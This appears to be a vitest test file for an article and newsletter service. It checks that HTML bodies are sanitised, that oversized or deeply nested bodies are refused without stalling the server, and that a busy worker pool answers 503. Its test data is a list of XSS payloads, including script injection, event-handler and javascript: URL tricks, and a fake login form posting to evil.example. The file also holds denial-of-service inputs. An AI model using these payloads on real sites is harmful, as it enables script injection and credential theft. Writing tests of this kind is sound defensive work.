import { rmSync } from "node:fs";
import { parseHTML } from "linkedom";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createWorkerPool, poolLimits } from "../../../contract/worker-pool.server";
import { bundleForNode } from "../../../scripts/bundle.js";
import { articleFields, fileArticle } from "../../support/articles";
import { type OpenWorld, openWorld } from "../../support/harness";
import { stallDuring } from "../../support/stalls.js";

/** The permitted elements of a stored body. */
const elements = new Set("P BR H2 H3 H4 H5 UL OL LI BLOCKQUOTE TABLE THEAD TBODY TFOOT TR TH TD CAPTION STRONG B EM I U A".split(" "));
const attributes: Record<string, string[]> = { A: ["href", "rel"], TD: ["colspan", "rowspan"], TH: ["colspan", "rowspan"] };

const hostile = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT/SRC=//evil.example/x.js></SCRIPT>",
  "<img src=x onerror=alert(1)>",
  '<img src="x" onerror\n=\nalert(1)>',
  "<p onclick=alert(1) style='position:fixed' class=x id=y>a</p>",
  "<svg onload=alert(1)><g/></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<a href=javascript:alert(1)>a</a>",
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href=" &#14; javascript:alert(1)">a</a>',
  '<a href="&#x6A;avascript:alert(1)">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<a href="vbscript:msgbox(1)">a</a>',
  '<a href="//evil.example" target=_blank ping=//evil.example>a</a>',
  '<a href="https://ok.example/" onmouseover="alert(1)">a</a>',
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<iframe src=https://evil.example></iframe>",
  "<object data=x></object><embed src=x><applet code=x></applet>",
  "<form action=//evil.example><input name=password><button>Anmelden</button></form>",
  "<base href=//evil.example/><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0;url=//evil.example>",
  "<style>@import '//evil.example'; p { background: url(//evil.example) }</style>",
  "<template><script>alert(1)</script></template>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  "<textarea></textarea><img src=x onerror=alert(1)>",
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<?xml-stylesheet href='javascript:alert(1)'?>",
  "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
  "<p>&amp;lt;script&amp;gt;alert(1)</p>",
  "<b><i><u><a><p><td><li>".repeat(500),
  "<div>".repeat(10_000),
  "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>",
  "<details open ontoggle=alert(1)><summary>a</summary></details>",
  "<marquee onstart=alert(1)>a</marquee>",
  "<body onload=alert(1)><html onfocus=alert(1) autofocus>",
  "<x-custom onclick=alert(1) contenteditable>a</x-custom>",
  "<p>\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt></p>",
  "<<script>alert(1)//<</script>",
  "<a href='https://ok.example/\"><img src=x onerror=alert(1)>'>a</a>",
  "<td colspan='2\"><script>alert(1)</script>'>a</td>",
];

describe("Hostile bodies", () => {
  let world: OpenWorld;
  beforeAll(async () => {
    world = await openWorld();
  });
  afterAll(() => world.close());

  it.each(hostile)("%j is stored as harmless HTML", async (body) => {
    const article = await fileArticle(world.as("henrike"), await world.folderId("presseschau"), { body: `<p>Anfang</p>${body}` });
    const { document } = parseHTML(`<html><body>${article.body}</body></html>`);
    for (const element of document.body.querySelectorAll("*")) {
      expect(elements, article.body).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect(attributes[element.tagName] ?? [], article.body).toContain(name);
        if (name === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:)/);
      }
    }
    expect(article.teaser_text).toContain("Anfang");
    expect(article.teaser_text.length).toBeLessThanOrEqual(281);
  });
});

describe("Bodies that were made to cost time", () => {
  let world: OpenWorld;
  let folder: string;
  beforeAll(async () => {
    world = await openWorld();
    folder = await world.folderId("presseschau");
  });
  afterAll(() => world.close());

  const file = (body: string) => world.as("henrike").post("/contents", { content: articleFields(folder, { body }) });
  const paragraphs = (count: number) => "<p>x".repeat(count);

  it.each<[string, string, number]>([
    ["32 KB that became 10 MB", "<b>".repeat(180) + paragraphs(8_000), 201],
    ["180 KB of paragraphs in tags", "<b><i><u><a href='http://a.example/'>".repeat(45) + paragraphs(44_000), 422],
    ["a long address around paragraphs", `<a href="http://a.example/${"y".repeat(50_000)}">${paragraphs(30_000)}`, 422],
    ["signs that become five each", "&".repeat(199_000), 422],
    ["lists in lists", "<ul><li>x".repeat(20_000), 201],
    ["words in bold", `<p>${"<b>x</b> ".repeat(20_000)}`, 201],
  ])("answer %s while others go on", async (_, body, status) => {
    const idle = await stallDuring(() => file("<p>Kurz</p>"));
    let answer: Awaited<ReturnType<typeof file>> | undefined;
    const stall = await stallDuring(async () => {
      answer = await file(body);
    });
    expect(answer?.status, JSON.stringify(answer?.body).slice(0, 300)).toBe(status);
    if (status === 201) expect(answer?.body.body.length).toBeLessThanOrEqual(200_000);
    else expect(answer?.body).toEqual({ errors: { body: ["Please shorten this to 200000 characters at most."] } });
    expect(stall - idle).toBeLessThan(200);
  });

  it("that an earlier version stored as 10 MB are shown, laid out again", async () => {
    const { id } = await fileArticle(world.as("henrike"), folder, {});
    const stored = `<p>${"<b>".repeat(180)}x${"</b>".repeat(180)}</p>`.repeat(8_000);
    await world.services.database.pool.query("update articles set body = $1 where id = $2", [stored, id]);
    const idle = await stallDuring(() => file("<p>Kurz</p>"));
    const stall = await stallDuring(async () => {
      expect((await world.as("henrike").get(`/contents/${id}`)).body.body).toBe("<p><b>x</b></p>".repeat(8_000));
    });
    expect(stall - idle).toBeLessThan(200);
  });

  it("are refused in introductions of newsletters as well", async () => {
    const anna = world.as("anna");
    const { id } = (await anna.post("/mailings", { mailing: { folder_id: folder, vuex_state: {} } })).body;
    const change = (intro_text: string) => anna.put(`/mailings/${id}`, { mailing: { vuex_state: { intro_text } } });
    const answer = await change(`<b><i><u><a href='http://a.example/'>${paragraphs(3_000)}`);
    expect([answer.status, Object.keys(answer.body.errors ?? {})]).toEqual([422, ["intro_text"]]);
    expect((await change(`${"<b>".repeat(180)}${paragraphs(1_000)}`)).status).toBe(200);
  });
});

describe("While all threads for texts are occupied", () => {
  let world: OpenWorld;
  let sleeper: string;
  beforeAll(async () => {
    world = await openWorld();
    sleeper = await bundleForNode("tests/support/pool-worker.ts", `.cache/tests/sleeper-${process.pid}.mjs`);
  });
  afterAll(async () => {
    await world.close();
    rmSync(sleeper);
  });

  it("a long text is answered with 503 and when to try again, not with a complaint about the text; then it is stored", async () => {
    const occupy = createWorkerPool<SharedArrayBuffer, string>({ filename: sleeper, timeLimitMs: 600_000 });
    const gate = new SharedArrayBuffer(4);
    const fields = { content: articleFields(await world.folderId("presseschau"), { body: `<p>${"Wort ".repeat(2_000)}</p>` }) };
    await world.as("henrike").get("/teams");
    const occupied = Promise.all([occupy(gate), occupy(gate)]);
    // No thread becomes free in the meantime.
    const before = poolLimits.wait;
    poolLimits.wait = 100;
    const refused = await world.as("henrike").post("/contents", fields);
    poolLimits.wait = before;
    expect(refused.status).toBe(503);
    expect(refused.headers.get("Retry-After")).toBe("10");
    expect(refused.body.errors).toBeUndefined();
    const view = new Int32Array(gate);
    // One of them may begin to wait only now.
    Atomics.store(view, 0, 1);
    Atomics.notify(view, 0);
    await occupied;
    expect((await world.as("henrike").post("/contents", fields)).status).toBe(201);
  });
});
